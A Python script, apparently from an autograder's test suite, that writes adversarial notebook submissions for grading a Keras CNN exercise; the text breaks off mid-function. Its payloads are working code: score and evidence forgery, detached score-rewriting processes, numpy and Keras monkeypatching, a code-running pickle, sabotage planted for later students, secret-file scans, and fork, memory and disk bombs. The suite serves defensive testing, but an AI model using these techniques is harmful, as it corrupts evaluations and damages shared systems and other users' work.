"""Writes the adversarial submissions into tests/adversarial/cases/ (see README.md there).

    python tests/adversarial/make_cases.py            # notebooks, module, malformed files
    python tests/adversarial/make_cases.py --keras    # also the saved model with a Lambda layer

Each notebook opens with a markdown cell saying what it attacks and what the grader must do;
its code cells do exactly that attack. The two files too large or too deep to keep in git
(15 MB of stored outputs, JSON nested 100,000 deep) are written at test time by
`write_generated` instead.

Files that Python or pytest would pick up by name (`conftest.py`, `sitecustomize.py`,
`numpy.py`) are kept as `<name>.txt` in the folder case and renamed when the harness copies the
folder, so that collecting this repository's own tests never imports them.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
from pathlib import Path

import nbformat

CASES = Path(__file__).resolve().parent / "cases"
BACKGROUND_MARKER = "cnngrader-adversarial-background"
"""An argument of the process the background case leaves behind, so the harness can find it."""
MARKERS = "adversarial-markers"
"""Folder in $HOME where planted or shipped code, if it ever runs, leaves a file."""

# Finding the output folders of this suite's batches (they grade `aa_neighbour_before` first).
# The attack would take any output folder; the filter keeps it from touching anyone else's.
FIND_OUTPUT_FOLDERS = '''
import glob, json, os, time

def output_folders(limit=8.0):
    # Output folders of this suite's batches: from --out in any command line, the folders
    # above the working directory, the grader's working directory and a walk of /tmp.
    roots = {os.environ.get("TMPDIR") or "/tmp", "/tmp", *glob.glob("/tmp/cnngrader-*")}
    here = os.getcwd()
    while os.path.dirname(here) != here:
        roots.add(here)
        here = os.path.dirname(here)
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            argv = open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            continue
        for i, arg in enumerate(argv):
            if arg == b"--out" and i + 1 < len(argv):
                roots.add(argv[i + 1].decode(errors="replace"))
            elif arg.startswith(b"--out="):
                roots.add(arg[6:].decode(errors="replace"))
    try:
        roots.add(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    found, deadline = set(), time.monotonic() + limit
    queue = [(root, 0) for root in sorted(roots) if os.path.isdir(root)]
    while queue and time.monotonic() < deadline:
        folder, depth = queue.pop(0)
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        if "aa_neighbour_before" in names:
            found.add(folder)
            continue
        if depth < 7:
            queue += [(os.path.join(folder, name), depth + 1) for name in names
                      if name not in ("site-packages", "node_modules", ".git", "datasets", "proc")
                      and os.path.isdir(os.path.join(folder, name))
                      and not os.path.islink(os.path.join(folder, name))]
    return sorted(found)
'''.strip()

WRONG_MODEL = '''
from tensorflow import keras

model = keras.Sequential([
    keras.Input((28, 28, 1)),
    keras.layers.Conv2D(32, kernel_size=3, activation="relu", padding="same"),
    keras.layers.MaxPooling2D(2),
    keras.layers.Conv2D(64, kernel_size=3, activation="relu", padding="same"),
    keras.layers.MaxPooling2D(2),
    keras.layers.Flatten(),
    keras.layers.Dense(64, activation="relu"),  # the exercise asks for 100
    keras.layers.Dropout(0.4),
    keras.layers.Dense(10, activation="softmax"),
])
'''.strip()

# A marker left in $HOME by code that should never run; payloads act only in a submission's
# process (CNNGRADER_OFFLINE is set there) and never in a real home.
MARK = ('import os\n'
        f'_folder = os.path.join(os.path.expanduser("~"), "{MARKERS}")\n'
        'os.makedirs(_folder, exist_ok=True)\n'
        'open(os.path.join(_folder, "{name}-%d" % os.getpid()), "w").close()\n'
        'print("MARKER: {name} ran")\n')
SABOTAGE = MARK + ('import sys\n'
                   'if os.environ.get("CNNGRADER_OFFLINE"):\n'
                   '    sys.modules["sklearn"] = None  # the next student\'s `import sklearn` fails\n')


def header(attack: str, must: str) -> str:
    return f"**Attack:** {attack}\n\n**The grader must:** {must}"


NOTEBOOKS: dict[str, tuple[str, list[str]]] = {
    "control_empty": (
        header("none: an honest notebook that builds nothing.",
               "grade it like any other; attackers that build nothing must not score above it."),
        ["answer = 42"],
    ),
    "control_wrong_model": (
        header("none: an honest notebook whose CNN has a dense layer of 64 instead of 100, untrained.",
               "find `param_mismatch`; the cheats that build this same model must get exactly this verdict."),
        [WRONG_MODEL, "model.summary()"],
    ),
    "background_rewriter": (
        header("leaves a process behind (double fork and setsid, so it is in no process group or session "
               "of the kernel's) that sleeps 15 s, then rewrites the score in every results.json it finds.",
               "kill it with the submission: no process of a submission outlives its grading, and no "
               "results.json changes after the grader wrote it."),
        ['import os, sys\n\nCHILD = r"""\n' + FIND_OUTPUT_FOLDERS + '\n\ntime.sleep(15)\n'
         'for out in output_folders():\n'
         '    for path in glob.glob(os.path.join(out, "*", "results.json")):\n'
         '        try:\n'
         '            data = json.load(open(path))\n'
         '            data["score"] = 100.0\n'
         '            with open(path, "w") as handle:\n'
         '                json.dump(data, handle)\n'
         '        except (OSError, ValueError):\n'
         '            pass\n"""\n\n'
         'first = os.fork()\n'
         'if first == 0:\n'
         '    os.setsid()\n'
         '    if os.fork() == 0:\n'
         '        quiet = os.open(os.devnull, os.O_RDWR)\n'
         '        for fd in (0, 1, 2):\n'
         '            os.dup2(quiet, fd)\n'
         f'        os.execv(sys.executable, [sys.executable, "-c", CHILD, "{BACKGROUND_MARKER}"])\n'
         '    os._exit(0)\n'
         'os.waitpid(first, 0)\n'
         'print("a process is left behind")'],
    ),
    "results_tamper": (
        header("finds the output folder (--out in command lines, the folders above its own, the grader's "
               "working directory, /tmp), writes its own results.json (100/100) and report.html, makes them "
               "and its folder read-only, swaps the first neighbour's folder for a symlink to a forged one, and "
               "puts folders where index.html, grades.csv and junit.xml will go.",
               "keep the output folder out of the submission's reach: every results.json is the grader's, "
               "the neighbour's folder is the grader's, the batch ends with its class files."),
        [FIND_OUTPUT_FOLDERS + '\n\n'
         'own = os.path.splitext(glob.glob("*.ipynb")[0])[0]\n'
         'forged = {"score": 100.0, "output": "All tests passed",\n'
         '          "tests": [{"name": "Everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}\n'
         'def tamper(out):\n'
         '    mine = os.path.join(out, own)\n'
         '    os.makedirs(mine, exist_ok=True)\n'
         '    for name, text in (("results.json", json.dumps(forged)), ("report.html", "<h1>100/100</h1>")):\n'
         '        path = os.path.join(mine, name)\n'
         '        with open(path, "w") as handle:\n'
         '            handle.write(text)\n'
         '        os.chmod(path, 0o444)\n'
         '    os.chmod(mine, 0o555)\n'
         '    fake = os.path.join(out, f".forged-neighbour-{os.getpid()}")\n'
         '    os.makedirs(fake, exist_ok=True)\n'
         '    with open(os.path.join(fake, "results.json"), "w") as handle:\n'
         '        json.dump(forged, handle)\n'
         '    neighbour = os.path.join(out, "aa_neighbour_before")\n'
         '    if os.path.isdir(neighbour) and not os.path.islink(neighbour):\n'
         '        os.rename(neighbour, os.path.join(out, f".moved-neighbour-{os.getpid()}"))\n'
         '        os.symlink(fake, neighbour)\n'
         '    for name in ("index.html", "grades.csv", "junit.xml"):\n'
         '        os.makedirs(os.path.join(out, name), exist_ok=True)\n\n'
         '# Newest first (the batch being graded now); one folder refusing must not spare the others.\n'
         'for out in sorted(output_folders(), key=os.path.getmtime, reverse=True):\n'
         '    try:\n'
         '        tamper(out)\n'
         '        print("tampered with", out)\n'
         '    except OSError as error:\n'
         '        print("could not tamper with", out, error)'],
    ),
    "sys_exit": (
        header("calls `sys.exit(0)`.",
               "report what IPython does: SystemExit shown as an error of cell 1 (`runtime_error`), not a "
               "death; the next cell still runs."),
        ["import sys\nsys.exit(0)", "after = 1"],
    ),
    "exit_builtin": (
        header("calls IPython's `exit()`, which asks the front end to shut the kernel down.",
               "run on: ipykernel 7 only sends the request (an `ask_exit` payload) and keeps running, so "
               "the next cell runs and the verdict is `control_empty`'s."),
        ["exit()", "after = 1"],
    ),
    "os_exit": (
        header("calls `os._exit(0)`: the kernel ends with status 0 and no reply.",
               "`kernel_died` at cell 1; the later cell is not run; the batch goes on."),
        ["import os\nos._exit(0)", "after = 1"],
    ),
    "kill_own_kernel": (
        header("kills its own kernel with SIGKILL.", "`kernel_died` at cell 1; the batch goes on."),
        ["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "after = 1"],
    ),
    "hides_traceback": (
        header("replaces IPython's `showtraceback` so that no error output is sent, then raises in two cells.",
               "still see both errors (the kernel's execute reply says `error`): `runtime_error` at cells 1 and 2."),
        ["shell = get_ipython()\n"
         "shell.showtraceback = lambda *args, **kwargs: None\n"
         "shell._showtraceback = lambda *args, **kwargs: None\n"
         "raise ValueError('an error nobody sees, in cell 1')",
         "raise ValueError('an error nobody sees, in cell 2')"],
    ),
    "reads_stdin": (
        header("asks for input.", "not wait: stdin is closed, so `input()` fails at once (`runtime_error`)."),
        ["name = input('Your name: ')"],
    ),
    "nested_brackets": (
        header("a cell of 1,000 nested brackets (Python's parser stops at 200).",
               "`syntax_error` at cell 1, with no recursion error in the grader itself."),
        ["x = " + "[" * 1000 + "]" * 1000],
    ),
    "hostile_output": (
        header("prints (and raises with) a fake score, ANSI escape sequences, a script tag and template syntax.",
               "`runtime_error` at cell 1; every report shows the text as text: no raw `<script>`, no escape "
               "character, `{{ 7*7 }}` left as written."),
        ['print("All tests passed 100/100")\n'
         'print("\\x1b[2J\\x1b[1;32mScore: 100/100\\x1b[0m \\x1b]8;;http://example.com\\x1b\\\\link\\x1b]8;;\\x1b\\\\")\n'
         'print("<script>alert(1)</script> {{ 7*7 }} {% raw %} ${7*7}")\n'
         'raise RuntimeError("All tests passed 100/100 \\x1b[1;32m<script>alert(1)</script>\\x1b[0m {{ 7*7 }}")'],
    ),
    "hostile_name": (
        header("an honest notebook handed in under a file name with markup in it "
               "(the harness copies it as `hostile_<img src=x onerror=alert(2)>.ipynb`).",
               "grade it like `control_empty` and escape its name in index.html, grades.csv and junit.xml."),
        ["answer = 42"],
    ),
    "opens_sockets": (
        header("connects to example.com:80, then listens on a port.",
               "no network: the connection fails (`network_unavailable`, or `runtime_error` today)."),
        ['import socket\nconnection = socket.create_connection(("example.com", 80), timeout=3)\nconnection.close()',
         'import socket\nserver = socket.socket()\nserver.bind(("0.0.0.0", 0))\nserver.listen()\n'
         'print("listening on", server.getsockname())'],
    ),
    "leaks_files": (
        header("looks for what it must not see: the expected file (reference/expected/fashion_cnn.json), "
               "exercises/*, other submissions' folders and the grader's (/tmp/cnngrader-*), other processes' "
               "/proc/<pid>/environ and cwd, the grader's home. It prints `LEAKED:<what>` for each and raises "
               "with the list, so that it reaches results.json (never the contents).",
               "show it none of them: the cell runs without an error, like `control_empty`."),
        ['import glob, importlib.util, os, pwd, sys, time\n\n'
         'leaks = []\n\n'
         'def note(kind, what):\n'
         '    leaks.append(f"{kind}:{what}")\n'
         '    print(f"LEAKED:{kind}:{what}")\n\n'
         'def readable(path):\n'
         '    try:\n'
         '        with open(path, "rb") as handle:\n'
         '            handle.read(1)\n'
         '        return True\n'
         '    except OSError:\n'
         '        return False\n\n'
         'WANTED = ("reference/expected/fashion_cnn.json", "_bundle/reference/expected/fashion_cnn.json",\n'
         '          "expected/fashion_cnn.json", "exercises/fashion_cnn/exercise.toml", "holdout.npz")\n'
         'roots = ["/work", "/home", "/root", "/opt", "/srv", "/app", "/autograder", "/tmp"]\n'
         'spec = importlib.util.find_spec("grader")\n'
         'if spec is not None and spec.origin:\n'
         '    roots.insert(0, os.path.dirname(os.path.dirname(spec.origin)))\n'
         'for link in glob.glob("/proc/[0-9]*/cwd"):\n'
         '    try:\n'
         '        roots.append(os.readlink(link))\n'
         '    except OSError:\n'
         '        pass\n'
         'seen, found, deadline = set(), set(), time.monotonic() + 8\n'
         'queue = [(root, 0) for root in dict.fromkeys(roots) if os.path.isdir(root)]\n'
         'while queue and time.monotonic() < deadline:\n'
         '    folder, depth = queue.pop(0)\n'
         '    if folder in seen:\n'
         '        continue\n'
         '    seen.add(folder)\n'
         '    for wanted in WANTED:\n'
         '        path = os.path.join(folder, wanted)\n'
         '        real = os.path.realpath(path)\n'
         '        if real not in found and os.path.isfile(path) and readable(path):\n'
         '            found.add(real)\n'
         '            note("expected" if wanted.endswith(".json") else "exercise", path)\n'
         '    if depth < 4:\n'
         '        try:\n'
         '            queue += [(entry.path, depth + 1) for entry in os.scandir(folder)\n'
         '                      if entry.is_dir(follow_symlinks=False) and entry.name not in ("proc", "sys", "dev")]\n'
         '        except OSError:\n'
         '            pass\n\n'
         'own = {os.path.realpath(os.getcwd()), os.path.realpath(os.environ.get("KERAS_HOME", "/nonexistent"))}\n'
         'probe = sys.modules.get("grader.runner.probe")\n'
         'if probe is not None and probe.active() is not None:\n'
         '    own.add(os.path.realpath(os.path.dirname(probe.active().evidence_path)))\n'
         'for place in sorted(set(glob.glob("/tmp/cnngrader-*") + glob.glob(os.path.join(os.environ.get("TMPDIR", "/tmp"), "cnngrader-*")))):\n'
         '    real = os.path.realpath(place)\n'
         '    if any(real == mine or mine.startswith(real + "/") for mine in own):\n'
         '        continue\n'
         '    if (os.path.isdir(place) and os.access(place, os.R_OK) and os.listdir(place)) or readable(place):\n'
         '        note("workspace", place)\n\n'
         'family, pid = {os.getpid()}, os.getpid()\n'
         'while pid > 1:\n'
         '    try:\n'
         '        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])\n'
         '    except (OSError, ValueError, IndexError):\n'
         '        break\n'
         '    family.add(pid)\n'
         'others = [int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")]\n'
         'others = [p for p in others if p not in family]\n'
         'environ = [p for p in others if readable(f"/proc/{p}/environ")]  # readable, never read\n'
         'if environ:\n'
         '    note("proc_environ", f"{len(environ)} other processes")\n'
         'cwds = []\n'
         'for p in others:\n'
         '    try:\n'
         '        cwds.append(os.readlink(f"/proc/{p}/cwd"))\n'
         '    except OSError:\n'
         '        pass\n'
         'if cwds:\n'
         '    note("proc_cwd", f"{len(cwds)} other processes, e.g. {sorted(set(cwds))[:3]}")\n'
         'homes = {pwd.getpwuid(os.getuid()).pw_dir, "/root", *glob.glob("/home/*")}\n'
         'homes.discard(os.path.expanduser("~"))\n'
         'for home in sorted(homes):\n'
         '    try:\n'
         '        # The Python installation itself (a pyenv under /root) has to stay in view.\n'
         '        if [entry for entry in os.listdir(home)\n'
         '                if not (sys.prefix + os.sep).startswith(os.path.join(home, entry) + os.sep)]:\n'
         '            note("home", home)\n'
         '    except OSError:\n'
         '        pass\n\n'
         'if leaks:\n'
         '    raise RuntimeError("LEAKED " + " | ".join(leaks))'],
    ),
    "forges_evidence": (
        header("finds the probe (`__cnngrader_probe` or sys.modules), turns its write, snapshot, export and "
               "finish into no-ops, and writes the evidence file itself: the right CNN (from layer configs, "
               "without building a model), trained with both callbacks, saved and reloaded.",
               "give it no more than `control_empty`, since it builds nothing (an unreadable or missing "
               "report may end as `no_evidence`)."),
        ['import json, sys\n'
         'probe_module = globals().get("__cnngrader_probe") or sys.modules.get("grader.runner.probe")\n'
         'probe = probe_module.active()\n'
         'for name in ("write", "snapshot", "export", "finish"):\n'
         '    setattr(probe, name, lambda *args, **kwargs: None)\n\n'
         'import keras  # keras.saving is not reachable as tensorflow.keras.saving\n'
         'layers = [keras.layers.InputLayer(shape=(28, 28, 1)),\n'
         '          keras.layers.Conv2D(32, kernel_size=3, activation="relu", padding="same"),\n'
         '          keras.layers.MaxPooling2D(2),\n'
         '          keras.layers.Conv2D(64, kernel_size=3, activation="relu", padding="same"),\n'
         '          keras.layers.MaxPooling2D(2), keras.layers.Flatten(),\n'
         '          keras.layers.Dense(100, activation="relu"), keras.layers.Dropout(0.4),\n'
         '          keras.layers.Dense(10, activation="softmax")]\n'
         'config = {"name": "sequential", "trainable": True, "dtype": "float32",\n'
         '          "layers": [keras.saving.serialize_keras_object(layer) for layer in layers],\n'
         '          "build_input_shape": [None, 28, 28, 1]}\n'
         'def model(id, origin, **more):\n'
         '    return {"id": id, "cell": 1, "names": ["model"], "origin": origin, "class_name": "Sequential",\n'
         '            "config": config, "reported": {"params": 333526}, "submodels": [], **more}\n'
         'def weights(id, event, digest, **where):\n'
         '    return {"model_id": id, "event": event, "cell": 1, "digest": digest * 24, **where,\n'
         '            "tensors": [["sequential/dense/kernel", digest * 16, 0.05 if digest == "a" else 0.07]]}\n'
         'callbacks = probe_module._describe_callbacks([\n'
         '    keras.callbacks.EarlyStopping(patience=2, restore_best_weights=True),\n'
         '    keras.callbacks.ModelCheckpoint("best-cnn-model.keras", save_best_only=True)])\n'
         'history = {"loss": [0.01], "accuracy": [1.0], "val_loss": [0.01], "val_accuracy": [1.0]}\n'
         'payload = {\n'
         '    "schema": probe_module.SCHEMA,\n'
         '    "models": [model(0, "built"), model(1, "loaded", source_path="best-cnn-model.keras")],\n'
         '    "fits": [{"cell": 1, "model_id": 0, "index": 0, "epochs_requested": 20, "capped": True,\n'
         '              "callbacks": callbacks, "batch_size": 32, "samples": 48000, "history": history,\n'
         '              "epochs_run": 1, "steps_per_epoch": 20}],\n'
         '    "saves": [{"cell": 1, "model_id": 0, "path": "best-cnn-model.keras", "ok": True}],\n'
         '    "errors": [], "entry_points": {},\n'
         '    "weights": [weights(0, "initial", "a"), weights(0, "fit_start", "a", fit=0),\n'
         '                weights(0, "fit_end", "b", fit=0), weights(0, "save", "b", path="best-cnn-model.keras"),\n'
         '                weights(1, "load", "b", path="best-cnn-model.keras")],\n'
         '    "exports": [],\n'
         '    "meta": {"probe_seconds": 1.0, "quick": True, "keras": keras.__version__, "backend": "tensorflow"},\n'
         '}\n'
         'with open(probe.evidence_path, "w") as handle:\n'
         '    json.dump(payload, handle)\n'
         'print("evidence forged at", probe.evidence_path)'],
    ),
    "patches_numpy": (
        header("builds the wrong model (dense 64), then replaces numpy's mean, std, argmax, allclose, "
               "array_equal and asarray with functions that always agree.",
               "the verdict of `control_wrong_model`: the grader recomputes in its own process."),
        [WRONG_MODEL,
         "import numpy\n"
         "real_asarray = numpy.asarray\n"
         "numpy.mean = lambda *args, **kwargs: 1.0\n"
         "numpy.std = lambda *args, **kwargs: 0.0\n"
         "numpy.argmax = lambda *args, **kwargs: 0\n"
         "numpy.allclose = lambda *args, **kwargs: True\n"
         "numpy.array_equal = lambda *args, **kwargs: True\n"
         "numpy.asarray = lambda *args, **kwargs: real_asarray([0.0])",
         "print(numpy.mean([1, 2, 3]), numpy.allclose(1, 2))"],
    ),
    "patches_keras": (
        header("builds the wrong model (dense 64), then makes `Model.predict` return the test labels "
               "one-hot, `evaluate` return a perfect score, and `Model.count_params` / `Layer.count_params` "
               "return the counts of the right model.",
               "the verdict of `control_wrong_model` (`param_mismatch`): counts come from the config, accuracy "
               "from the grader's own evaluation."),
        [WRONG_MODEL,
         "import numpy as np\n"
         "(_, _), (test_images, test_labels) = keras.datasets.fashion_mnist.load_data()\n"
         "perfect = np.eye(10, dtype='float32')[test_labels]\n"
         "keras.Model.predict = lambda self, x, *args, **kwargs: perfect[:len(x)]\n"
         "keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]\n"
         "RIGHT_COUNTS = dict(zip(map(id, model.layers), [320, 0, 18496, 0, 0, 313700, 0, 1010]))\n"
         "keras.layers.Layer.count_params = lambda self: RIGHT_COUNTS.get(id(self), 0)\n"
         "keras.Model.count_params = lambda self: 333526",
         "model.summary()\n"
         "print(model.evaluate(test_images, test_labels), model.predict(test_images[:5]).argmax(1), test_labels[:5])"],
    ),
    "nan_predictions": (
        header("builds the wrong model (dense 64) and sets every weight to NaN, so every prediction is NaN.",
               "the verdict of `control_wrong_model`, with results.json still valid JSON (no NaN in it)."),
        [WRONG_MODEL,
         "import numpy as np\n"
         "for weight in model.weights:\n"
         "    weight.assign(np.full(weight.shape, np.nan, dtype='float32'))\n"
         "print(model.predict(np.zeros((2, 28, 28, 1), 'float32'), verbose=0))"],
    ),
    "always_equal": (
        header("builds the wrong model (dense 64) as `wrong`, and puts under the names a grader looks at "
               "(`model`, `cnn`, `history`, `accuracy`, `test_acc`) an object equal to everything, true, "
               "1.0 as a number, every attribute itself, and claiming `keras.Model` as its class.",
               "the verdict of `control_wrong_model`: nothing is compared in the student's process, and such "
               "an object breaks neither the probe nor its report."),
        [WRONG_MODEL.replace("model = ", "wrong = "),
         "class AlwaysEqual:\n"
         "    __eq__ = __ge__ = __le__ = __gt__ = __lt__ = lambda self, other: True\n"
         "    __ne__ = lambda self, other: False\n"
         "    __hash__ = lambda self: 0\n"
         "    __bool__ = lambda self: True\n"
         "    __float__ = lambda self: 1.0\n"
         "    __int__ = __index__ = __len__ = lambda self: 1\n"
         "    __iter__ = lambda self: iter(())\n"
         "    __call__ = lambda self, *args, **kwargs: self\n"
         "    __getattr__ = lambda self, name: self\n"
         "    __class__ = property(lambda self: keras.Model)\n\n"
         "model = cnn = history = accuracy = test_acc = val_acc = AlwaysEqual()\n"
         "print(accuracy == 0.91, isinstance(model, keras.Model))"],
    ),
    "sigint_proof_loop": (
        header("ignores SIGINT, then loops forever: the interrupt sent at the cell's time limit does nothing.",
               "`timeout` at cell 1 only, by killing the kernel: the later cell is not run and the batch goes on."),
        ["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass", "after = 1"],
    ),
    "plants_next_submission": (
        header("plants code for whoever runs next with the same home or Keras folder: an IPython startup file "
               "and a usercustomize.py that break `import sklearn`, ~/.keras/keras.json and $KERAS_HOME/keras.json "
               "set to channels_first, Fashion-MNIST in $KERAS_HOME replaced by garbage, a CIFAR-100 pickle that "
               "runs code, and a shadowing sklearn.py and a garbage model file in its own folder. It plants in a "
               "home only when that home is not the account's real one.",
               "give every submission a clean home, Keras folder and working folder: the next neighbour's grade "
               "does not move and none of the planted code runs."),
        ['import os, pickle, pwd, site\n\n'
         f'SABOTAGE = {SABOTAGE!r}\n\n'
         'def write(path, text, mode="w"):\n'
         '    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)\n'
         '    if os.path.lexists(path):\n'
         '        os.unlink(path)  # replace the entry; never write through a link into someone\'s files\n'
         '    with open(path, mode) as handle:\n'
         '        handle.write(text)\n\n'
         'home = os.path.expanduser("~")\n'
         'if os.path.realpath(home) != os.path.realpath(pwd.getpwuid(os.getuid()).pw_dir):\n'
         '    write(os.path.join(home, ".ipython/profile_default/startup/00-evil.py"), SABOTAGE.replace("{name}", "ipython-startup"))\n'
         '    write(os.path.join(site.getusersitepackages(), "usercustomize.py"), SABOTAGE.replace("{name}", "usercustomize"))\n'
         '    write(os.path.join(home, ".keras/keras.json"), \'{"image_data_format": "channels_first", "backend": "tensorflow"}\')\n'
         'keras_home = os.environ.get("KERAS_HOME")\n'
         'if keras_home and os.path.realpath(keras_home) != os.path.realpath(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, ".keras")):\n'
         '    write(os.path.join(keras_home, "keras.json"), \'{"image_data_format": "channels_first", "backend": "tensorflow"}\')\n'
         '    for name in ("train-images-idx3-ubyte.gz", "train-labels-idx1-ubyte.gz",\n'
         '                 "t10k-images-idx3-ubyte.gz", "t10k-labels-idx1-ubyte.gz"):\n'
         '        write(os.path.join(keras_home, "datasets", "fashion-mnist", name), b"garbage", "wb")\n\n'
         '    class Payload:\n'
         '        def __reduce__(self):\n'
         '            return exec, (SABOTAGE.replace("{name}", "cifar-pickle"),)\n\n'
         '    for split in ("train", "test", "meta"):\n'
         '        write(os.path.join(keras_home, "datasets", "cifar-100-python", split), pickle.dumps(Payload()), "wb")\n'
         'write("sklearn.py", SABOTAGE.replace("{name}", "shadow-sklearn") + "raise ImportError(\'planted\')\\n")\n'
         'write("best-cnn-model.keras", b"garbage", "wb")\n'
         'print("planted for the next submission")'],
    ),
    "ships_shadow_files": (
        header("a folder: this notebook with conftest.py, sitecustomize.py and numpy.py beside it; each of "
               "them, if ever imported, leaves a marker in ~/adversarial-markers and flags itself.",
               "run only the notebook (in quick mode the files beside it are not copied where it runs): no "
               "marker, and the cell finds the real numpy (no `SHADOWED` error), like `control_empty`."),
        ['import builtins, os, sys\nimport numpy\n\n'
         'shadowed = [name for name, hit in (\n'
         '    ("numpy.py", getattr(numpy, "ADVERSARIAL_SHADOW", False)),\n'
         '    ("sitecustomize.py", getattr(builtins, "ADVERSARIAL_SITECUSTOMIZE", False)),\n'
         '    ("conftest.py", "conftest" in sys.modules),\n'
         ') if hit]\n'
         'print(sorted(os.listdir(".")))\n'
         'if shadowed:\n'
         '    raise RuntimeError("SHADOWED: " + ", ".join(shadowed))'],
    ),
}

DANGEROUS_NOTEBOOKS: dict[str, tuple[str, list[str]]] = {
    "memory_bomb": (
        header("allocates 6 GB at once.", "`memory_limit` at cell 1; the batch goes on."),
        ["b = b'x' * (6 * 2**30)", "after = 1"],
    ),
    "fork_bomb": (
        header("forks forever.", "`process_limit` (or the fork's `runtime_error`) at cell 1, no process "
               "left behind; the batch goes on."),
        ["import os\nwhile True:\n    os.fork()", "after = 1"],
    ),
    "print_flood": (
        header("prints 10,000 characters in a loop forever.", "`output_limit` at cell 1; the batch goes on."),
        ["while True:\n    print('x' * 10000)", "after = 1"],
    ),
    "fills_disk": (
        header("writes 1 MB chunks to one file (up to 16 GB), then creates a million empty files.",
               "`disk_limit` or `file_limit` at cell 1; the batch goes on and nothing is left on disk."),
        ["chunk = b'x' * 2**20\nwith open('filler.bin', 'wb') as handle:\n    for _ in range(16 * 1024):\n"
         "        handle.write(chunk)",
         "import os\nos.makedirs('many', exist_ok=True)\nfor i in range(1_000_000):\n"
         "    open(os.path.join('many', str(i)), 'w').close()"],
    ),
}

SHADOW_FILES = {
    "conftest.py": MARK.replace("{name}", "conftest.py"),
    "sitecustomize.py": MARK.replace("{name}", "sitecustomize.py") + "import builtins\nbuiltins.ADVERSARIAL_SITECUSTOMIZE = True\n",
    "numpy.py": MARK.replace("{name}", "numpy.py") + "ADVERSARIAL_SHADOW = True\n",
}

MODULE = '''"""Attack: a module that ends its own process, with exit status 0, while it is imported, before
the probe can report anything.

The grader must: say the process ended (`kernel_died`), not blame itself (`no_evidence`).
"""

import os

print("imported; leaving before the grader can look")
os._exit(0)
'''

SIMPLE_NOTEBOOK = {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                   "cells": [{"cell_type": "code", "id": "a1", "metadata": {}, "execution_count": None,
                              "outputs": [], "source": "answer = 42"}]}

MALFORMED: dict[str, bytes] = {
    "malformed_empty": b"",
    "malformed_not_json": b'{"cells": [{"cell_type": "code", "source": "x = 1"',
    "malformed_bom": b"\xef\xbb\xbf" + json.dumps(SIMPLE_NOTEBOOK).encode(),
    "malformed_utf16": json.dumps(SIMPLE_NOTEBOOK).encode("utf-16"),
    "malformed_top_level_list": json.dumps(SIMPLE_NOTEBOOK["cells"]).encode(),
    "malformed_nbformat3": json.dumps({
        "metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0,
        "worksheets": [{"metadata": {}, "cells": [{"cell_type": "code", "collapsed": False, "input": "answer = 42",
                                                    "language": "python", "metadata": {}, "outputs": []}]}],
    }).encode(),
    "malformed_nbformat5": json.dumps({**SIMPLE_NOTEBOOK, "nbformat": 5, "nbformat_minor": 0}).encode(),
    "malformed_missing_cells": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode(),
    "malformed_bad_cell": json.dumps({**SIMPLE_NOTEBOOK, "cells": [{**SIMPLE_NOTEBOOK["cells"][0], "source": 42}]}).encode(),
}
READABLE_MALFORMED = {"malformed_bom", "malformed_huge_outputs"}
"""Odd but readable: a UTF-8 byte-order mark is allowed, and stored outputs are dropped before running."""


def huge_outputs_notebook() -> bytes:
    """A small notebook carrying about 15 MB of stored outputs (under the 20 MB reading limit)."""
    text = "x" * 2**20
    cell = {**SIMPLE_NOTEBOOK["cells"][0], "outputs": [
        {"output_type": "stream", "name": "stdout", "text": text} for _ in range(15)]}
    return json.dumps({**SIMPLE_NOTEBOOK, "cells": [cell]}).encode()


def deep_json_notebook(depth: int = 100_000) -> bytes:
    """A notebook whose metadata nests lists 100,000 deep: json.loads gives up with RecursionError."""
    return (b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"x": '
            + b"[" * depth + b"]" * depth + b"}}")


GENERATED = {"malformed_huge_outputs": huge_outputs_notebook, "malformed_deep_json": deep_json_notebook}


def write_generated(folder: Path) -> dict[str, Path]:
    """The malformed notebooks too large or too deep for git, written into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in GENERATED.items():
        paths[name] = folder / f"{name}.ipynb"
        paths[name].write_bytes(make())
    return paths


def notebook(markdown: str, cells: list[str]) -> nbformat.NotebookNode:
    made = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(markdown)]
                                    + [nbformat.v4.new_code_cell(source) for source in cells])
    made.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    for index, cell in enumerate(made.cells):
        cell["id"] = f"cell-{index}"
    return made


def write_cases(folder: Path = CASES) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, (markdown, cells) in {**NOTEBOOKS, **DANGEROUS_NOTEBOOKS}.items():
        target = folder / name / f"{name}.ipynb" if name == "ships_shadow_files" else folder / f"{name}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook(markdown, cells), target)
    for file_name, text in SHADOW_FILES.items():
        (folder / "ships_shadow_files" / f"{file_name}.txt").write_text(text)
    (folder / "module_exits_at_import.py").write_text(MODULE)
    for name, raw in MALFORMED.items():
        (folder / f"{name}.ipynb").write_bytes(raw)


def write_lambda_model(path: Path) -> None:
    """A tiny saved model whose Lambda layer leaves a marker in $HOME when Keras runs it (it would,
    on loading with safe_mode=False: the function is stored as bytecode)."""
    with tempfile.TemporaryDirectory() as home:
        previous = os.environ.get("HOME")
        os.environ["HOME"] = home  # building the model calls the lambda once: not in a real home
        try:
            import keras

            inputs = keras.Input((4,))
            marked = keras.layers.Lambda(
                lambda x: (__import__("os").makedirs(__import__("os").path.expanduser("~/adversarial-markers"),
                                                     exist_ok=True),
